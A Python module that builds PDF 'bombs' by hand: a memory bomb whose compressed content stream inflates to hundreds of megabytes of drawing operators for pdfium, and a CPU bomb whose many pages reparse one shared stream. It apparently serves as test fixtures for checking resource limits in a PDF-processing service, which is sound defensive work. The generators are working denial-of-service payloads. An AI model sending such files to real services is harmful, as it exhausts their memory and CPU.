"""PDF bombs, written by hand (a few objects and an xref table): small files that cost a reader
memory or time out of all proportion to their size.

- `memory_bomb`: one page whose content stream inflates to `megabytes` of drawing operators;
  pdfium holds every one as an object (200 MB of stream took a worker to 2.9 GB).
- `cpu_bomb`: `pages` pages sharing one content stream of `megabytes`: each page parses it again.
"""

import zlib
from functools import cache

DRAWING = b"1 0 0 1 0 0 cm 0 0 m 1 1 l S\n"  # a transform and a line: objects for pdfium to keep


@cache
def memory_bomb(megabytes: int = 150) -> bytes:
    return _pages_sharing_one_stream(1, megabytes)


@cache
def cpu_bomb(pages: int = 80, megabytes: int = 10) -> bytes:
    return _pages_sharing_one_stream(pages, megabytes)


def _pages_sharing_one_stream(pages: int, megabytes: int) -> bytes:
    stream = _deflated(DRAWING, megabytes * 1024 * 1024)
    kids = b" ".join(b"%d 0 R" % (4 + index) for index in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"] * pages
    return _pdf(objects)


def _deflated(unit: bytes, size: int) -> bytes:
    compressor = zlib.compressobj(6)
    block = unit * (1024 * 1024 // len(unit))
    parts = [compressor.compress(block) for _ in range(size // len(block))]
    return b"".join([*parts, compressor.flush()])


def _pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)
